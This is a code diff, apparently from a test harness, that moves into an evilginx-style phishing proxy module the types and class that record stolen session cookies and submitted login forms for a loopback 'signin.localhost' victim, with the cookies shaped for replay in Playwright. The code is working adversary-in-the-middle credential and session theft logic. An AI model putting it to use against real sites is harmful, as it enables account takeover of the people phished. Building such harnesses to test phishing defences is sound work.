@@ -3,11 +3,24 @@ import { buffer, text } from 'node:stream/consumers';
 import { pipeline } from 'node:stream/promises';
 import { closeServer, listenOnLoopback } from './loopback.ts';
 import { Disguise } from './phishing-disguise.ts';
-import { PhishingLoot, type StolenCookie, type StolenForm } from './phishing-loot.ts';
 
 /** The name the victim sees; a secure context in Chromium although it is http, as a kit's https page would be. */
 const HOST = 'signin.localhost';
 const REWRITTEN = /^(?:text\/(?:html|css|javascript)|application\/(?:javascript|json|xhtml\+xml))\b/i;
+
+/** A cookie of the target, in the shape in which Playwright's `addCookies` takes it. */
+export interface StolenCookie {
+  readonly name: string;
+  readonly value: string;
+  /** The target, where it is worth something. */
+  readonly url: string;
+}
+
+/** A form that the victim filled in. */
+export interface StolenForm {
+  readonly path: string;
+  readonly fields: Readonly<Record<string, string>>;
+}
 
 /**
  * A phishing proxy as kits of the kind of evilginx are: the victim visits it under another name and sees the real site,
@@ -115,4 +128,40 @@ function pairs(message: IncomingMessage): [string, string][] {
   return Object.entries(message.headersDistinct).flatMap(([name, values]) =>
     (values ?? []).map((value): [string, string] => [name, value]),
   );
+}
+
+/** What a phishing kit keeps of what passes through it. It tells no victims apart: one test, one victim. */
+class PhishingLoot {
+  readonly forms: StolenForm[] = [];
+  readonly #cookies = new Map<string, string>();
+  readonly #target: string;
+
+  constructor(target: string) {
+    this.#target = target;
+  }
+
+  /** The cookies that hold now: what the target has replaced or taken back is not among them. */
+  get cookies(): StolenCookie[] {
+    return [...this.#cookies].map(([name, value]) => ({ name, value, url: this.#target }));
+  }
+
+  /** @param setCookie a Set-Cookie header of the target's, before it is disguised */
+  keepCookie(setCookie: string): void {
+    const [pair = '', ...attributes] = setCookie.split(';').map((part) => part.trim());
+    const [name = '', ...value] = pair.split('=');
+    if (attributes.some(takesBack)) this.#cookies.delete(name);
+    else this.#cookies.set(name, value.join('='));
+  }
+
+  /** Forms only, as browsers send them; whatever else is posted goes by. */
+  keepForm(path: string, contentType: string | undefined, body: string): void {
+    if (!contentType?.startsWith('application/x-www-form-urlencoded')) return;
+    this.forms.push({ path, fields: Object.fromEntries(new URLSearchParams(body)) });
+  }
+}
+
+function takesBack(attribute: string): boolean {
+  const [name = '', value = ''] = attribute.split('=');
+  if (name.toLowerCase() === 'max-age') return Number(value) <= 0;
+  return name.toLowerCase() === 'expires' && Date.parse(value) <= Date.now();
 }
